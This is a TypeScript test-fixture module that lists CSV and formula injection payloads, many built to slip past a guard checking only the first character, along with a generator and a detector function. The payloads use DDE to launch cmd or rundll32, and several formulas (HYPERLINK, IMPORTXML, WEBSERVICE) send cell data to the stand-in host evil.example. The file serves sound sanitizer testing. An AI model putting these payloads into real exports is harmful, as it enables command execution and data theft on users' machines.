/** What OWASP lists under CSV injection, and ways around a guard that looks at the first sign alone. */
export const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=2+5+cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?x="&A1&A2,"calc: xem kết quả")`,
  `=IMPORTXML(CONCAT("http://evil.example/?calc=",A1),"//a")`,
  `=WEBSERVICE("http://evil.example/calc")`,
  `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
  `DDE("cmd";"/C calc";"!A0")A0`,
  `＝cmd|'/C calc'!A0`,
  `＋cmd|'/C calc'!A0`,
  `－cmd|'/C calc'!A0`,
  `＠SUM(1)*cmd|'/C calc'!A0`,
  `%0A=cmd|'/C calc'!A0`,
  `'=cmd|'/C calc'!A0`,
  `"=cmd|'/C calc'!A0"`,
  `calc",=cmd|'/C calc'!A0,"`,
  `calc;=cmd|'/C calc'!A0`,
] as const

/** Only where a text may begin with a space or a sign of control: answers in words. */
export const LED_PAYLOADS = [
  `\t=cmd|'/C calc'!A0`,
  `\r=cmd|'/C calc'!A0`,
  `\n=cmd|'/C calc'!A0`,
  ` =cmd|'/C calc'!A0`,
  `\u00a0=cmd|'/C calc'!A0`,
  `\ufeff=cmd|'/C calc'!A0`,
] as const

/** Payloads one after the other, so that each field of a fixture gets another. */
export function payloads(list: readonly string[] = PAYLOADS): () => string {
  let at = 0
  return () => {
    at += 1
    return list[(at - 1) % list.length] ?? ''
  }
}

/** Written without any word of the guard's own: a cell that a spreadsheet would run. */
export function wouldRun(cell: string): boolean {
  const first = cell.replace(/^[\s\ufeff]+/u, '')
  return cell !== '' && ('\t\r\n'.includes(cell[0] ?? '') || (first !== '' && '=+-@＝＋－＠'.includes(first[0] ?? '')))
}
